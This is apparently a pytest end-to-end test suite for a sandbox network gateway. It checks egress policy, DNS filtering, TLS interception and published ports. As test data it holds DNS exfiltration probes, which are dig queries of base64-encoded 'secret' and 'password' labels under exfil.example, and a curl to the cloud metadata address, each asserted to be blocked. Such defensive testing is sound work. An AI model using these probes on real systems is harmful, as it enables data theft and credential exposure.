"""End to end: guest netns -> fake VMM -> the C gateway (netstack.gateway.Gateway) -> TapUplink
or PasstUplink -> upstream netns with TEST-NET servers. Real kernels, real curl/dig/ping,
no mocks. The passt rig is rootless as it would be for a user: the gateway process and
passt run as ``nobody`` (tests/netstack_gateway/unprivileged.py); only the topology is root's.

One topology + uplink per module (host loopback enabled, so the gateway's policy is what
decides about the ``host`` group); one Gateway per test on the fake VMM's stream socket.
TEST-NET answers count as reserved for DNS rebind protection, so scenarios that resolve
names turn it off (``rebind_protection=False``, a test-only knob) - except the rebind
test itself.
"""

from __future__ import annotations

import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from netstack import NetworkPolicy, Rule
from netstack.errors import GatewayError, UplinkError
from netstack.gateway import (
    AddressPlan,
    Gateway,
    PublishedPort,
    TapUplink,
    cleanup_stale,
    uplink_names,
)
from netstack.gateway._published import PortPublisher
from tests.netstack_gateway.kernel_objects import snapshot
from tests.netstack_gateway.topology import (
    UPSTREAM_DNS_IP,
    UPSTREAM_IP,
    UPSTREAM_NAME,
    Topology,
    host_loopback_http,
    uplink_and_topology,
)
from tests.netstack_gateway.unprivileged import RemoteGateway, UnprivilegedGateways
from tests.support import GUEST_HTTP_SERVER, NOBODY, require_binaries, require_root

pytestmark = pytest.mark.timeout(60)


class Rig:
    """A topology and the uplink side: an in-process TapUplink, or (passt) the
    unprivileged server whose gateways are :class:`RemoteGateway` handles."""

    def __init__(self, topo: Topology, uplink: TapUplink | None, tmp: Path,
                 server: UnprivilegedGateways | None = None) -> None:
        self.topo, self.tmp, self.server = topo, tmp, server
        self._uplink = uplink
        self.kind = "tap" if server is None else "passt"

    @property
    def scratch(self) -> Path:
        """A directory the gateway's process may write (the passt rig's: nobody's)."""
        return self.tmp if self.server is None else self.server.workdir

    @property
    def uplink(self) -> TapUplink:
        assert self._uplink is not None, "the passt rig's uplink lives in its server"
        return self._uplink

    def gateway(self, policy: NetworkPolicy, **kw: object) -> Any:
        """A Gateway with the rig's guest socket and DNS upstream (``kw`` overrides them;
        ``guest_fd=None`` leaves it out)."""
        if self.server is not None:
            return self.server.gateway(policy, **kw)
        assert self.topo.vmm_socket is not None
        args: dict[str, Any] = {"guest_fd": self.topo.vmm_socket.fileno(),
                                "dns_upstreams": [UPSTREAM_DNS_IP], **kw}
        if args["guest_fd"] is None:
            del args["guest_fd"]
        return Gateway(policy, uplink=self.uplink, **args)

    def run(self, argv: list[str], timeout: float = 20) -> subprocess.CompletedProcess[str]:
        return self.topo.run_in_guest(argv, timeout=timeout)

    def curl(self, *args: str, max_time: int = 8) -> tuple[int, str, float]:
        t0 = time.monotonic()
        r = self.run(["curl", "-sS", "--max-time", str(max_time), *args], timeout=max_time + 10)
        return r.returncode, r.stdout + r.stderr, time.monotonic() - t0

    def dig(self, name: str, *extra: str) -> str:
        gw = str(self.topo.plan.gateway_ipv4)
        r = self.run(["dig", f"@{gw}", "+time=3", "+tries=1", *extra, name, "A"])
        return r.stdout + r.stderr


@pytest.fixture(scope="module", params=["tap", "passt"])
def rig(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
        ) -> Iterator[Rig]:
    """The same scenarios over each uplink: the TAP uplink (root) and the passt uplink,
    whose gateway process, passt and VMM stand-in run as nobody."""
    require_root()
    require_binaries("ip", "nft", "curl", "dig", "ping")
    if request.param == "passt":
        require_binaries("passt")
    tmp = tmp_path_factory.mktemp("gwe2e")
    kw = {"vnet_hdr": True} if request.param == "tap" else {}
    with uplink_and_topology("gw-e2e", AddressPlan(3220), tmp, "e", host_loopback=True,
                             kind=request.param, **kw) as (uplink, topo):
        if isinstance(uplink, TapUplink):
            yield Rig(topo, uplink, tmp)
            return
        uplink.close()  # root's passt: the rig's own runs in the unprivileged server
        assert topo.vmm_socket is not None
        vmm_end, guest_tap = topo.detach_vmm()  # the VMM stand-in runs there too
        server = UnprivilegedGateways(3220, topo.vmm_socket.fileno(), host_loopback=True,
                                      dns_upstreams=[UPSTREAM_DNS_IP],
                                      vmm=(vmm_end.fileno(), guest_tap))
        try:
            assert server.info["uid"] == NOBODY and server.info["passt_uid"] == NOBODY
            assert server.info["pump"]
            yield Rig(topo, None, tmp, server)
        finally:
            passt_pid = server.info["passt_pid"]
            server.close()
            assert not Path(f"/proc/{passt_pid}").exists(), "passt left running"


@pytest.fixture(scope="module")
def host_service() -> Iterator[int]:
    """An HTTP service on the host's 127.0.0.1 (what the ``host`` group reaches)."""
    with host_loopback_http() as port:
        yield port


_UDP_PROBE = r"""
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.connect((sys.argv[1], int(sys.argv[2])))
s.send(b"ping")
try:
    s.recv(100)
    print("answered")
except ConnectionRefusedError:
    print("refused")
except TimeoutError:
    print("timeout")
"""


def _tls(rig: Rig, sni: str, path: str = "/tls") -> tuple[int, str, float]:
    return rig.curl("--cacert", str(rig.topo.ca_file), "--resolve", f"{sni}:443:{UPSTREAM_IP}",
                    f"https://{sni}{path}")


# -- default policy -----------------------------------------------------------------------
def test_default_policy_public_allowed_private_and_metadata_fail_fast(rig: Rig) -> None:
    with rig.gateway(NetworkPolicy.public_only()) as gw:
        rc, out, _ = rig.curl(f"http://{UPSTREAM_IP}/public")
        assert rc == 0 and out.startswith("hello from upstream /public"), out
        rc, out, _ = _tls(rig, UPSTREAM_NAME)
        assert rc == 0 and out.startswith("hello from upstream /tls"), out
        for ip in ("10.1.2.3", "192.168.7.7", "169.254.169.254"):
            rc, out, took = rig.curl(f"http://{ip}/")
            assert rc == 7, (ip, out)  # RST: "Failed to connect ... after 0 ms"
            assert took < 5, took
        r = rig.run([sys.executable, "-c", _UDP_PROBE, "10.9.9.9", "5000"])
        assert r.stdout.strip() == "refused", r.stdout + r.stderr  # ICMP port unreachable
        stats = gw.stats()
        assert stats["rst_sent"] >= 3 and stats["icmp_sent"] >= 1, stats
        assert stats["verdicts"]["allow"] > 0 and stats["to_guest"] > 0
        hits = gw.rule_counters()
        assert hits[1].hits >= 2  # "allow egress group public"
        assert hits[-2].hits >= 4  # the egress default (deny)


def test_dns_side_doors_refused_even_to_allowed_hosts(rig: Rig) -> None:
    with rig.gateway(NetworkPolicy.allow_all()) as gw:
        rc, out, took = rig.curl(f"https://{UPSTREAM_IP}:853/")  # DNS over TLS: RST
        assert rc == 7 and took < 5, out
        assert gw.stats()["rst_sent"] >= 1
    if rig.kind == "passt":
        return  # passt does not turn a refused host connection into a RST (it times out)
    with rig.gateway(NetworkPolicy.allow_all(), block_dns_bypass=False) as gw:
        rc, out, took = rig.curl(f"https://{UPSTREAM_IP}:853/")  # no server there: refused
        assert rc == 7, out                                     # by the upstream itself
        assert gw.stats()["rst_sent"] == 0


@pytest.mark.uplinks("tap", why="passt does not relay ICMP errors of its sockets' flows to the guest")
def test_icmp_errors_of_allowed_flows_reach_the_guest(rig: Rig) -> None:
    # nothing listens on UDP 9 upstream: its kernel's port unreachable comes back through
    # the uplink and is matched to the guest's allowed flow by the quoted packet
    with rig.gateway(NetworkPolicy.public_only()) as gw:
        r = rig.run([sys.executable, "-c", _UDP_PROBE, UPSTREAM_IP, "9"])
        assert r.stdout.strip() == "refused", r.stdout + r.stderr
        assert gw.stats()["icmp_sent"] == 0  # not ours: the upstream's


# -- the default guest link (MTU 65520) and packets too big for the uplink (1500) ----------
_BIG_UDP = r"""
import errno, socket, sys
IP_MTU_DISCOVER, IP_PMTUDISC_DONT, IP_PMTUDISC_DO, IP_MTU = 10, 0, 2, 14
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.IPPROTO_IP, IP_MTU_DISCOVER,
             IP_PMTUDISC_DO if sys.argv[3] == "df" else IP_PMTUDISC_DONT)
s.connect((sys.argv[1], int(sys.argv[2])))
s.settimeout(0.5)
for _ in range(6):
    try:
        s.send(b"x" * 4000)
        s.recv(100)
        print("answered")
        break
    except TimeoutError:
        continue
    except OSError as e:
        print(errno.errorcode[e.errno], s.getsockopt(socket.IPPROTO_IP, IP_MTU))
        break
else:
    print("vanished")
"""


def _flush_pmtu(rig: Rig) -> None:
    """Forget the path MTUs the guest learnt (other tests expect a fresh route)."""
    rig.run(["ip", "route", "flush", "cache"])


@pytest.mark.uplinks("tap", why="passt carries 65520-byte packets: no vnet_hdr/GSO configuration to check")
def test_the_default_guest_link_and_uplink_are_the_fast_configuration(rig: Rig) -> None:
    from netstack.gateway import SANDBOX_GUEST_MTU, RedirectingUplink, Uplink

    assert isinstance(rig.uplink, Uplink) and isinstance(rig.uplink, RedirectingUplink)
    assert rig.topo.plan.mtu == SANDBOX_GUEST_MTU == 65520
    assert rig.uplink.vnet_hdr and rig.uplink.mtu == 1500
    with rig.gateway(NetworkPolicy.public_only()) as gw:
        assert gw.guest_config()["mtu"] == 65520
        assert "mtu 65520 " in rig.run(["ip", "-o", "link", "show", "eth0"]).stdout


@pytest.mark.uplinks("tap", why="passt's MTU is the guest link's (65520): nothing is too big for it")
def test_udp_with_df_too_big_for_the_uplink_gets_emsgsize_not_silence(rig: Rig) -> None:
    """A 4000-byte datagram with DF (IP_PMTUDISC_DO) fits the guest link but not the
    uplink: the gateway's ICMP "fragmentation needed" makes the guest kernel report
    EMSGSIZE and learn the path MTU 1500. Without DF the gateway fragments it and it
    arrives (the upstream's port unreachable comes back: ECONNREFUSED)."""
    _flush_pmtu(rig)
    try:
        with rig.gateway(NetworkPolicy.public_only()) as gw:
            r = rig.run([sys.executable, "-c", _BIG_UDP, UPSTREAM_IP, "9", "df"])
            assert r.stdout.split() == ["EMSGSIZE", "1500"], r.stdout + r.stderr
            assert gw.stats()["frag_needed"] >= 1
            _flush_pmtu(rig)
            r = rig.run([sys.executable, "-c", _BIG_UDP, UPSTREAM_IP, "9", "nodf"])
            assert r.stdout.split()[0] == "ECONNREFUSED", r.stdout + r.stderr
            stats = gw.stats()
            assert stats["fragmented"] >= 1 and stats["oversize_dropped"] == 0, stats
    finally:
        _flush_pmtu(rig)


@pytest.mark.uplinks("tap", why="passt's MTU is the guest link's (65520): nothing is too big for it")
def test_ping_with_df_too_big_for_the_uplink_reports_frag_needed(rig: Rig) -> None:
    _flush_pmtu(rig)
    try:
        with rig.gateway(NetworkPolicy.public_only()) as gw:
            r = rig.run(["ping", "-c", "1", "-W", "3", "-s", "3000", "-M", "do", UPSTREAM_IP])
            out = r.stdout + r.stderr
            assert "Frag needed" in out and "mtu = 1500" in out, out
            assert gw.stats()["frag_needed"] == 1
            # the guest learnt the path MTU: the next one fails locally, at once
            r = rig.run(["ping", "-c", "1", "-W", "3", "-s", "3000", "-M", "do", UPSTREAM_IP])
            out = r.stdout + r.stderr
            assert "message too long, mtu=1500" in out, out
            assert gw.stats()["frag_needed"] == 1
    finally:
        _flush_pmtu(rig)


@pytest.mark.uplinks("tap", why="passt (as nobody) needs ping sockets: net.ipv4.ping_group_range")
def test_icmp_echo_to_allowed_destination_only(rig: Rig) -> None:
    with rig.gateway(NetworkPolicy.public_only()):
        r = rig.run(["ping", "-c", "1", "-W", "3", UPSTREAM_IP])
        assert r.returncode == 0, r.stdout + r.stderr
        r = rig.run(["ping", "-c", "1", "-W", "1", "10.1.2.3"])
        assert r.returncode != 0


# -- DNS ------------------------------------------------------------------------------------
def test_rebinding_answer_is_nxdomain(rig: Rig) -> None:
    # protection on (the default) and no address-only rule exempting the TEST-NET answer
    with rig.gateway(_domain_policy()) as gw:
        out = rig.dig(UPSTREAM_NAME)
        assert "status: NXDOMAIN" in out, out
        assert gw.stats()["dns"]["rebind_blocked"] >= 1
    # an address-only allow rule for the range exempts it (public_only: group public)
    with rig.gateway(NetworkPolicy.public_only()):
        assert UPSTREAM_IP in rig.dig(UPSTREAM_NAME, "+short")


def test_dns_over_tcp_to_the_gateway(rig: Rig) -> None:
    with rig.gateway(_domain_policy(), rebind_protection=False) as gw:
        out = rig.dig(UPSTREAM_NAME, "+tcp", "+short")
        assert out.strip() == UPSTREAM_IP, out
        assert "status: NXDOMAIN" in rig.dig("leak.exfil.example", "+tcp")
        # TCP to a resolver the guest picked is intercepted too: the allowed name is
        # answered only if the egress policy allows that resolver, which this policy
        # (one domain rule) does not -> NXDOMAIN, never a connection to it
        r = rig.run(["dig", f"@{UPSTREAM_DNS_IP}", "+tcp", "+time=5", "+tries=1",
                     UPSTREAM_NAME, "A"])
        assert "status: NXDOMAIN" in r.stdout, r.stdout + r.stderr
        stats = gw.stats()["dns"]
        assert stats["forwarded"] == 1 and stats["denied"] == 2, stats


def test_dns_over_tcp_to_another_resolver_goes_there_when_allowed(rig: Rig) -> None:
    # the gateway's own upstream is dead (no server on that TEST-NET address): an answer
    # can only come from the resolver the guest named, reached through the forwarder
    dead = "203.0.113.53"
    with rig.gateway(NetworkPolicy.public_only(), dns_upstreams=[dead], dns_timeout=1.0,
                     rebind_protection=False) as gw:
        for transport in ("+tcp", "+notcp"):
            r = rig.run(["dig", f"@{UPSTREAM_DNS_IP}", transport, "+time=5", "+tries=1",
                         "+short", UPSTREAM_NAME, "A"])
            assert r.stdout.strip() == UPSTREAM_IP, (transport, r.stdout + r.stderr)
        out = rig.dig(UPSTREAM_NAME, "+tcp")  # our resolver: the dead upstream
        assert "status: SERVFAIL" in out, out
        stats = gw.stats()["dns"]
        assert stats["forwarded"] == 2 and stats["servfail"] == 1, stats
    # a resolver in a denied group (private): NXDOMAIN over TCP, nothing sent there
    with rig.gateway(NetworkPolicy.public_only(), rebind_protection=False) as gw:
        r = rig.run(["dig", "@10.9.8.7", "+tcp", "+time=5", "+tries=1", UPSTREAM_NAME, "A"])
        assert "status: NXDOMAIN" in r.stdout, r.stdout + r.stderr
        assert gw.stats()["dns"]["forwarded"] == 0


def test_none_blocks_dns_and_everything(rig: Rig) -> None:
    with rig.gateway(NetworkPolicy.none(), rebind_protection=False):
        out = rig.dig(UPSTREAM_NAME)
        assert "status: NXDOMAIN" in out, out
        rc, out, took = rig.curl(f"http://{UPSTREAM_IP}/")
        assert rc == 7 and took < 5, out


def _domain_policy() -> NetworkPolicy:
    # no allow_dns_rule(): its "group host port 53" would admit every DNS query; all guest
    # DNS reaches the forwarder anyway, which asks evaluate_dns per name
    return NetworkPolicy.custom(rules=[Rule.allow(UPSTREAM_NAME, protocol="tcp")])


def test_domain_allow_rule_admits_only_that_name(rig: Rig) -> None:
    with rig.gateway(_domain_policy(), rebind_protection=False) as gw:
        # no DNS answer has named the address yet: a direct-IP connection is reset
        rc, out, took = rig.curl(f"http://{UPSTREAM_IP}/direct")
        assert rc == 7 and took < 5, out
        # by DNS: the allowed name resolves (and pins the address), others do not
        out = rig.dig(UPSTREAM_NAME, "+short")
        assert UPSTREAM_IP in out, out
        assert "status: NXDOMAIN" in rig.dig("other.upstream.test")
        # by SNI: the allowed name works; a denied SNI to the same address is reset
        rc, out, _ = _tls(rig, UPSTREAM_NAME)
        assert rc == 0 and out.startswith("hello from upstream /tls"), out
        rc, out, took = rig.curl("-k", "--resolve", f"other.test:443:{UPSTREAM_IP}",
                                 "https://other.test/")
        assert rc in (35, 56) and "reset" in out.lower() and took < 5, out
        # plain HTTP to the pinned address (no SNI): decided by the pinned name
        rc, out, _ = rig.curl(f"http://{UPSTREAM_IP}/pinned")
        assert rc == 0 and out.startswith("hello from upstream /pinned"), out
        stats = gw.stats()
        assert stats["dns"]["denied"] >= 1 and stats["held"] + stats["released"] >= 0


def test_dns_exfiltration_under_allowlist_fails(rig: Rig) -> None:
    with rig.gateway(_domain_policy(), rebind_protection=False) as gw:
        for label in ("c2VjcmV0", "cGFzc3dvcmQ"):
            out = rig.dig(f"{label}.exfil.example")
            assert "status: NXDOMAIN" in out, out
        # also when the guest picks its own resolver: still intercepted, still denied
        r = rig.run(["dig", f"@{UPSTREAM_DNS_IP}", "+time=3", "+tries=1",
                     "c2VjcmV0.exfil.example", "A"])
        assert "status: NXDOMAIN" in r.stdout, r.stdout + r.stderr
        stats = gw.stats()["dns"]
        assert stats["forwarded"] == 0 and stats["denied"] == 3, stats


def test_deny_domains_win_over_allows(rig: Rig) -> None:
    policy = NetworkPolicy.custom(rules=[Rule.allow(".upstream.test", protocol="tcp")],
                                  deny_domains=[UPSTREAM_NAME])
    with rig.gateway(policy, rebind_protection=False):
        assert "status: NXDOMAIN" in rig.dig(UPSTREAM_NAME)
        out = rig.dig("alias.upstream.test", "+short")  # allowed by the suffix: pins the IP
        assert UPSTREAM_IP in out, out
        rc, out, took = _tls(rig, UPSTREAM_NAME)  # the denied name as SNI: reset
        assert rc != 0 and took < 5, out
        rc, out, _ = rig.curl("-k", "--resolve", f"alias.upstream.test:443:{UPSTREAM_IP}",
                              "https://alias.upstream.test/ok")
        assert rc == 0 and "hello from upstream /ok" in out, out


def test_large_transfers_both_ways(rig: Rig) -> None:
    """32 MiB down and 8 MiB up through the gateway (and, for passt, the framed stream
    both ways), byte for byte."""
    import hashlib
    import os

    blob = os.urandom(8 << 20)
    src = rig.tmp / "blob"
    src.write_bytes(blob)
    with rig.gateway(NetworkPolicy.public_only()) as gw:
        r = rig.run(["sh", "-c", f"curl -sS --max-time 30 "
                     f"'http://{UPSTREAM_IP}/big?n={32 << 20}' | sha256sum"], timeout=40)
        assert r.returncode == 0, r.stderr
        assert r.stdout.split()[0] == hashlib.sha256(b"x" * (32 << 20)).hexdigest()
        rc, out, _ = rig.curl("-T", str(src), f"http://{UPSTREAM_IP}/up", max_time=30)
        assert rc == 0 and out.split()[:2] == ["got", str(len(blob))], out
        assert out.split()[2] == hashlib.sha256(blob).hexdigest()
        assert gw.stats()["write_errors"] == 0


# -- TLS interception -------------------------------------------------------------------------
@contextmanager
def _tls_proxy(gw: Any, tmp: Path, ca_file: Path) -> Iterator[str]:
    """A transparent tls_proxy on the sockets ``gw.tls_interception()`` returns (TAP: one
    in the uplink namespace; passt: the steering NAT's loopback pool, each flow's original
    destination claimed through the lookup), in its own event loop thread, with one secret
    for the upstream's name; yields the CA's path."""
    import asyncio

    from tls_proxy import CertificateAuthority, ProxyConfig, Secret, TlsProxy

    if isinstance(gw, RemoteGateway):  # the proxy runs beside the unprivileged gateway
        path = gw.start_tls_proxy(("API_KEY", "s3cret-value", UPSTREAM_NAME),
                                  ca_file.read_bytes(), ["alias.upstream.test"])
        try:
            yield path
        finally:
            gw.stop_tls_proxy()
        return
    ca = CertificateAuthority.load_or_create(tmp / "proxy-ca")
    cfg = ProxyConfig(ca=ca, secrets=[Secret("API_KEY", "s3cret-value", [UPSTREAM_NAME])],
                      upstream_ca_files=[str(ca_file)], no_verify=["alias.upstream.test"])
    ti = gw.tls_interception([443])
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    proxy = TlsProxy(cfg)
    try:
        for sock in ti.sockets:
            asyncio.run_coroutine_threadsafe(
                proxy.listen_transparent(sock=sock, lookup=ti.lookup), loop).result(10)
        yield str(ca.cert_path)
    finally:
        asyncio.run_coroutine_threadsafe(proxy.close(), loop).result(10)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(10)
        loop.close()
        ti.close()


def test_tls_interception_injects_secrets_only_for_their_host(rig: Rig) -> None:
    policy = NetworkPolicy.custom(rules=[Rule.allow(UPSTREAM_NAME, protocol="tcp"),
                                         Rule.allow("alias.upstream.test", protocol="tcp")])
    with rig.gateway(policy, rebind_protection=False) as gw, \
            _tls_proxy(gw, rig.tmp, rig.topo.ca_file) as proxy_ca:
        for name in (UPSTREAM_NAME, "alias.upstream.test"):  # pins the address to both
            assert UPSTREAM_IP in rig.dig(name, "+short")
        auth = ["-H", "Authorization: Bearer $MSB_API_KEY"]
        # the guest trusts the proxy's CA; the proxy substitutes the placeholder for the
        # host the secret belongs to (the upstream echoes what reached it)
        rc, out, _ = rig.curl("--cacert", proxy_ca, "--resolve",
                              f"{UPSTREAM_NAME}:443:{UPSTREAM_IP}", *auth,
                              f"https://{UPSTREAM_NAME}/auth")
        assert rc == 0 and out.strip() == "auth=Bearer s3cret-value", out
        # the same placeholder towards another (allowed) name is blocked by the proxy
        rc, out, _ = rig.curl("--cacert", proxy_ca, "--resolve",
                              f"alias.upstream.test:443:{UPSTREAM_IP}", "-w", "%{http_code}",
                              *auth, "https://alias.upstream.test/auth")
        assert rc == 0 and "s3cret-value" not in out and "403" in out, out
        # a name the gateway's policy denies never reaches the proxy: reset at the SNI
        rc, out, took = rig.curl("--cacert", proxy_ca, "--resolve",
                                 f"denied.test:443:{UPSTREAM_IP}", "https://denied.test/")
        assert rc in (35, 56) and took < 5, out
        # without the proxy's CA the guest refuses the minted certificate
        rc, out, _ = _tls(rig, UPSTREAM_NAME, "/auth")
        assert rc == 60, out
        if rig.kind == "passt":  # every steered flow was claimed by the proxy
            st = gw.stats()["steering"]
            assert st["flows"] >= 3 and st["claimed"] == st["flows"], st
    # closing the gateway removed the redirect: TLS goes straight to the upstream again
    with rig.gateway(NetworkPolicy.public_only()):
        rc, out, _ = _tls(rig, UPSTREAM_NAME)
        assert rc == 0 and out.startswith("hello from upstream /tls"), out


def test_intercept_tls_bad_ports(rig: Rig) -> None:
    with rig.gateway(NetworkPolicy.public_only()) as gw:
        for bad in ([], [0], [70000], [53], "443"):
            with pytest.raises(GatewayError, match="port"):
                gw.tls_interception(bad)  # type: ignore[arg-type]
            if rig.kind == "tap":
                with pytest.raises(UplinkError, match="port"):
                    gw.intercept_tls(bad)  # type: ignore[arg-type]
        if rig.kind == "passt":  # one socket cannot serve the steering pool
            with pytest.raises(GatewayError, match="tls_interception"):
                gw.intercept_tls([443])


# -- host group -----------------------------------------------------------------------------
def test_host_group_only_when_allowed(rig: Rig, host_service: int) -> None:
    gw_ip = str(rig.topo.plan.gateway_ipv4)
    with rig.gateway(NetworkPolicy.public_only()):
        rc, out, took = rig.curl(f"http://{gw_ip}:{host_service}/")
        assert rc == 7 and took < 5, out
    with rig.gateway(NetworkPolicy.from_profiles("public", "host")):
        rc, out, _ = rig.curl(f"http://{gw_ip}:{host_service}/")
        assert rc == 0 and out == "hello from the host loopback\n", out


# -- published ports ------------------------------------------------------------------------
@pytest.fixture
def guest_server(rig: Rig) -> Iterator[None]:
    proc = subprocess.Popen(["ip", "netns", "exec", rig.topo.guest_ns, sys.executable, "-c",
                             GUEST_HTTP_SERVER, str(rig.topo.plan.guest_ipv4)],
                            stdout=subprocess.PIPE, text=True)
    try:
        assert proc.stdout is not None and proc.stdout.readline().strip() == "ready"
        yield
    finally:
        proc.kill()
        proc.wait(10)
        if proc.stdout is not None:
            proc.stdout.close()


def _host_get(port: int) -> tuple[int, str]:
    r = subprocess.run(["curl", "-sS", "--max-time", "8", f"http://127.0.0.1:{port}/"],
                       capture_output=True, text=True, timeout=20, check=False)
    return r.returncode, r.stdout + r.stderr


@pytest.mark.uplinks("tap", why="passt forwards published ports itself: tests/netstack_gateway/test_uplink_passt.py")
def test_published_port_reaches_the_guest(rig: Rig, guest_server: None) -> None:
    with rig.gateway(NetworkPolicy.public_only(), published_ports=["0:8000"]) as gw:
        port = gw.published[8000]
        for _ in range(3):
            rc, out = _host_get(port)
            assert rc == 0 and out.startswith("hello from the guest"), out
        assert gw.stats()["published"]["accepted"] == 3
        # the guest still cannot open connections of its own to the gateway side
        rc, out, took = rig.curl(f"http://{rig.topo.plan.gateway_ipv4}:{port}/")
        assert rc == 7 and took < 5, out


@pytest.mark.uplinks("tap", why="passt forwards published ports itself: tests/netstack_gateway/test_uplink_passt.py")
def test_published_port_with_an_ingress_deny_rule(rig: Rig, guest_server: None) -> None:
    policy = NetworkPolicy.custom(rules=[
        Rule.deny(direction="ingress", protocol="tcp", port=8000),
        Rule.allow(destination="198.51.100.0/24")])
    with rig.gateway(policy, published_ports=[(0, 8000)]) as gw:
        rc, out = _host_get(gw.published[8000])
        assert rc != 0, out
        pub = gw.stats()["published"]
        assert (pub["accepted"], pub["denied"], pub["failed"]) == (0, 1, 0)


_GUEST_UDP_ECHO = r"""
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[1], 5300))
print("ready", flush=True)
while True:
    data, addr = s.recvfrom(65535)
    s.sendto(b"echo " + data + f" from {addr[0]}".encode(), addr)
"""


def _udp_ask(source: str, port: int, payload: bytes, timeout: float = 2.0) -> bytes | None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((source, 0))
        s.settimeout(timeout)
        s.sendto(payload, ("127.0.0.1", port))
        try:
            return s.recv(65535)
        except TimeoutError:
            return None


@pytest.mark.uplinks("tap", why="passt forwards published ports itself: tests/netstack_gateway/test_uplink_passt.py")
def test_published_udp_port_per_datagram_ingress_check(rig: Rig) -> None:
    """Host 127.0.0.1:port/udp -> guest UDP echo: an allowed peer gets its echo back (and
    only its own), a peer denied by an ingress rule gets nothing and the guest sees
    nothing of it."""
    proc = subprocess.Popen(["ip", "netns", "exec", rig.topo.guest_ns, sys.executable, "-c",
                             _GUEST_UDP_ECHO, str(rig.topo.plan.guest_ipv4)],
                            stdout=subprocess.PIPE, text=True)
    policy = NetworkPolicy.custom(rules=[
        Rule.deny(direction="ingress", protocol="udp", destination="127.0.0.2/32"),
        Rule.allow(destination="198.51.100.0/24")])
    try:
        assert proc.stdout is not None and proc.stdout.readline().strip() == "ready"
        with rig.gateway(policy, published_ports=["0:5300/udp"]) as gw:
            port = gw.published_udp[5300]
            assert gw.published == {}
            gw_ip = str(rig.topo.plan.gateway_ipv4)
            for i in range(3):
                assert _udp_ask("127.0.0.1", port, f"hi {i}".encode()) == \
                    f"echo hi {i} from {gw_ip}".encode()
            assert _udp_ask("127.0.0.2", port, b"let me in", timeout=1.0) is None
            # two allowed peers at once: each gets its own replies
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as a, \
                    socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as b:
                for sock in (a, b):
                    sock.bind(("127.0.0.1", 0))
                    sock.settimeout(2)
                a.sendto(b"from a", ("127.0.0.1", port))
                b.sendto(b"from b", ("127.0.0.1", port))
                assert a.recv(100).startswith(b"echo from a")
                assert b.recv(100).startswith(b"echo from b")
            deadline = time.monotonic() + 2  # counted just after the reply is sent
            while gw.stats()["published"]["udp_replies"] < 5 and time.monotonic() < deadline:
                time.sleep(0.01)
            pub = gw.stats()["published"]
            assert pub["udp_forwarded"] == 5 and pub["udp_replies"] == 5
            assert pub["udp_denied"] == 1
            # an idle peer loses its relay socket (60 s in a Gateway; short here)
            idle = PortPublisher(rig.uplink.socket, str(rig.topo.plan.guest_ipv4),
                                 [PublishedPort(0, 5300, "udp")], policy.evaluate,
                                 udp_idle_timeout=0.5)
            try:
                iport = idle.udp_ports[5300]
                assert _udp_ask("127.0.0.1", iport, b"one", timeout=2) is not None
                deadline = time.monotonic() + 5
                while idle.stats["udp_peers_expired"] < 1 and time.monotonic() < deadline:
                    time.sleep(0.05)
                assert idle.stats["udp_peers_expired"] == 1
                assert _udp_ask("127.0.0.1", iport, b"two", timeout=2) is not None
            finally:
                idle.close()
    finally:
        proc.kill()
        proc.wait(10)
        if proc.stdout is not None:
            proc.stdout.close()


@pytest.mark.uplinks("tap", why="no uplink namespace to connect from; see test_uplink_passt.py")
def test_uplink_frames_to_unpublished_guest_ports_are_dropped(rig: Rig,
                                                             guest_server: None) -> None:
    # a connection opened inside the uplink namespace to a guest port that is not
    # published never reaches the guest
    ns = rig.uplink.names["netns"]
    with rig.gateway(NetworkPolicy.public_only(), published_ports=["0:8001"]) as gw:
        r = subprocess.run(["ip", "netns", "exec", ns, "curl", "-sS", "--max-time", "2",
                            f"http://{rig.topo.plan.guest_ipv4}:8000/"],
                           capture_output=True, text=True, timeout=20, check=False)
        assert r.returncode != 0
        assert gw.stats()["not_reply"] >= 1


# -- plumbing -------------------------------------------------------------------------------
def test_pcap_records_what_crossed(rig: Rig) -> None:
    path = rig.scratch / "gw.pcapng"
    with rig.gateway(NetworkPolicy.public_only(), pcap=path):
        rc, out, _ = rig.curl(f"http://{UPSTREAM_IP}/cap")
        assert rc == 0, out
        rig.curl("http://10.1.2.3/")
    data = path.read_bytes()
    assert data[:4] == b"\x0a\x0d\x0d\x0a" and len(data) > 1000
    assert b"deny-with-reset" in data and b"allow" in data


def test_bad_arguments_are_typed_errors(rig: Rig) -> None:
    with pytest.raises(GatewayError, match="transport"):
        rig.gateway(NetworkPolicy.none(), guest_fd=0, transport="carrier-pigeon")
    with pytest.raises(GatewayError, match="exactly one"):
        rig.gateway(NetworkPolicy.none(), guest_fd=None)
    with pytest.raises(GatewayError, match="published port"):
        rig.gateway(NetworkPolicy.none(), guest_fd=0, published_ports=[8080])
    with pytest.raises(GatewayError, match="'tcp' or 'udp'"):
        rig.gateway(NetworkPolicy.none(), guest_fd=0,
                    published_ports=[PublishedPort(1, 2, protocol="sctp")])
    with pytest.raises(GatewayError, match="published twice"):
        rig.gateway(NetworkPolicy.none(), guest_fd=0, published_ports=["1:2/udp", "3:2/udp"])


def test_close_is_idempotent_and_stops_the_loop(rig: Rig) -> None:
    gw = rig.gateway(NetworkPolicy.public_only())
    threads = threading.active_count()
    gw.close()
    gw.close()
    assert gw.closed
    if rig.kind == "tap":  # (the passt rig's gateway threads are in its server)
        assert threading.active_count() < threads
    with pytest.raises(GatewayError, match="closed"):
        gw.stats()


def test_socket_transport_owned(tmp_path: Path) -> None:
    """A gateway given a socket object owns it and closes it."""
    require_root()
    a, b = socket.socketpair()
    home = tmp_path / "home"
    with TapUplink("gw-e2e-own", AddressPlan(3202), home=home) as up:
        gw = Gateway(NetworkPolicy.none(), uplink=up, guest_socket=a,
                     dns_upstreams=["192.0.2.53"])
        gw.close()
        assert a.fileno() == -1
    b.close()
